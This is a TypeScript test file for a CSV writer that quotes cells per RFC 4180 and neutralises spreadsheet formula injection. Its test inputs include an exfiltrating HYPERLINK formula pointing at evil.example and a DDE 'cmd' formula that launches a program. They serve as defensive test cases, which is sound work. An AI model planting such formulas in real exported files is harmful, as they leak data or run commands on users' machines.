import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { BOM, csvCell, csvLine, unneutralise } from '../../../src/lib/core/csv/csv-writing.ts';
import { CORPORA, hasCorpora, NO_CORPORA } from '../../support/corpora.ts';
import { fastestMs } from '../../support/fastest.ts';

/** Rows as another program reads them. */
function read(csv: string, delimiter = ','): string[][] {
	const rows = Papa.parse<string[]>(csv, { delimiter, newline: '\r\n' }).data;
	// What Papa sees behind the last line end.
	return csv.endsWith('\r\n') ? rows.slice(0, -1) : rows;
}

/** What a spreadsheet runs, said in another way than in the module: drop what can't be seen, look at the first sign. */
function wouldRun(cell: string): boolean {
	const visible = [...cell.replace(/^\uFEFF/, '')].find(
		(sign) =>
			sign === '\t' || sign === '\r' || sign === '\n' || !/[\s\p{Cc}\p{Cf}\p{Z}"]/u.test(sign),
	);
	return visible !== undefined && '=+-@\t\r\n＝＋－＠'.includes(visible);
}

test('writes RFC 4180: quotes doubled, line ends CRLF, nothing quoted without need', () => {
	expect(csvLine(['Anna', 'Smith, Jr.', 'says "hi"', 'two\nlines', '', 'plain text'])).toBe(
		'Anna,"Smith, Jr.","says ""hi""","two\nlines",,plain text\r\n',
	);
	expect(csvLine([' padded ', 'a;b', 'a\tb'])).toBe('" padded ","a;b","a\tb"\r\n');
	expect(csvLine([''])).toBe('""\r\n');
	expect(csvLine([])).toBe('\r\n');
	expect(csvLine(['a', 'b'], { delimiter: ';' })).toBe('a;b\r\n');
});

test.each([
	'=1+1',
	'+44 20 7946 0958',
	'-1',
	'@SUM(A1)',
	'\t=1',
	'\r=1',
	'\n=1',
	'=1+1\nx',
	' =1',
	'\u00A0=1',
	'\uFEFF=1',
	'\u200B=1',
	'\0=1',
	'"=1',
	"'=1",
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'=HYPERLINK("http://evil.example/?"&A1,"x")',
	"=cmd|' /C calc'!A0",
])('makes %j harmless, and takes it back', (value) => {
	const cell = csvCell(value);
	expect(cell).toMatch(/^"'/);
	expect(csvCell(value, { raw: true })).not.toMatch(/^"?'[^=]/);
	const [[written]] = read(cell);
	expect(written).toBe(`'${value}`);
	expect(unneutralise(written)).toBe(value);
});

test.each(['1-2', 'a=b', 'anna@example.com', "O'Neil", "'90s", '(415) 555-2671', '', "'"])(
	'leaves %j as it is',
	(value) => {
		expect(csvCell(value)).toBe(value);
		expect(unneutralise(value)).toBe(value);
	},
);

const anyText = fc.oneof(
	fc.string({ unit: 'binary' }),
	fc.string({ unit: fc.constantFrom(...'=+-@\'" ,;\t\r\n\uFEFF＝a1') }),
);

test('whatever is written comes back as it was, through Papa Parse', () => {
	const rows = fc.array(fc.array(anyText, { minLength: 1, maxLength: 5 }), { maxLength: 5 });
	fc.assert(
		fc.property(rows, fc.constantFrom(',' as const, ';' as const), (rows, delimiter) => {
			const csv = rows.map((row) => csvLine(row, { delimiter })).join('');
			const back = read('header\r\n' + csv, delimiter).slice(1);
			expect(back.map((row) => row.map(unneutralise))).toEqual(rows);
		}),
		{ numRuns: 1_000 },
	);
});

test('raw cells come back as they were, without undoing anything', () => {
	fc.assert(
		fc.property(fc.array(anyText, { minLength: 1 }), (row) => {
			expect(read('header\r\n' + csvLine(row, { raw: true })).slice(1)).toEqual([row]);
		}),
	);
});

test('no text at all gives a cell that a spreadsheet would run', () => {
	fc.assert(
		fc.property(anyText, (value) => {
			const [[written]] = read('"x"\r\n' + csvLine([value])).slice(1);
			expect(wouldRun(written), JSON.stringify(written)).toBe(false);
		}),
		{ numRuns: 1_000 },
	);
});

test('the Big List of Naughty Strings after 4 prefixes, in header and row: 0 cells run, all come back', ({
	skip,
}) => {
	skip(!hasCorpora, NO_CORPORA);
	const naughty = JSON.parse(readFileSync(`${CORPORA}/blns/blns.json`, 'utf8')) as string[];
	expect(naughty.length).toBeGreaterThan(500);
	for (const prefix of ['', '=', '\t', '\uFEFF @']) {
		const cells = naughty.map((value) => prefix + value);
		const [header, row] = read(BOM + csvLine(['first', ...cells]) + csvLine(['1', ...cells]));
		expect(header.filter(wouldRun)).toEqual([]);
		expect(row.filter(wouldRun)).toEqual([]);
		expect(header.slice(1).map(unneutralise)).toEqual(cells);
		expect(row.slice(1).map(unneutralise)).toEqual(cells);
	}
});

test('the file of formulas, written again: 0 cells run', ({ skip }) => {
	skip(!hasCorpora, NO_CORPORA);
	const formulas = readFileSync(`${CORPORA}/traps/formula.csv`, 'utf8');
	const rows = Papa.parse<string[]>(formulas, { skipEmptyLines: true }).data;
	expect(rows.flat().filter(wouldRun).length).toBeGreaterThan(5);
	const written = rows.map((row) => csvLine(row)).join('');
	expect(read(written).flat().filter(wouldRun)).toEqual([]);
});

test('hostile text is written in linear time', () => {
	for (const part of ['=', ' ', '"', "'", '\t', '\u200B', ' a', '\n']) {
		const value = part.repeat(50_000).slice(0, 50_000) + 'x';
		// What is quadratic in it takes seconds.
		expect(
			fastestMs(() => unneutralise(csvCell(value))),
			JSON.stringify(part),
		).toBeLessThan(100);
	}
});
